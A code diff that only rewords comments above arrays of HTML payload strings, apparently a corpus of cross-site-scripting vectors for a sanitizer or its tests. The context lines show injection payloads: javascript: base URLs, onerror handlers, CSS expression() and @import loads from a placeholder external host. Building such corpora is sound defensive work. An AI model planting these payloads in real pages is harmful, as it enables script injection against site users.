@@ -85,7 +85,7 @@ const FRAMES = [
   `<portal src=//${ELSEWHERE}></portal>`,
 ];
 
-/** What changes the whole document: where addresses lead, what is loaded, where it goes. */
+/** Elements that affect the whole document: base URLs, resources, redirects. */
 const HEADS = [
   `<base href=//${ELSEWHERE}/>`,
   `<base href="javascript:/a/-${RUN}//">`,
@@ -120,7 +120,7 @@ const HEADS = [
   `<?import namespace="t" implementation="#default#time2"><t:set attributeName=innerHTML to="<img src=x onerror=${RUN}>">`,
 ];
 
-/** Style sheets, which run, load, cover the page or read what stands in it. */
+/** Style sheets that run code, load resources, cover the page or read its content. */
 const STYLES = [
   `<style>@import url(//${ELSEWHERE}/x.css);</style>`,
   `<style>*{background:url(//${ELSEWHERE}/x)}</style>`,
@@ -152,5 +152,5 @@ const STYLES = [
   `<font style='color:expression(${RUN})'>x</font>`,
 ];
 
-/** Whole elements that a body has no use for: scripts, frames, heads and styles. */
+/** Whole elements that don't belong in a body: scripts, frames, heads and styles. */
 export const DOCUMENT_PARTS: readonly string[] = [...SCRIPTS, ...FRAMES, ...HEADS, ...STYLES];
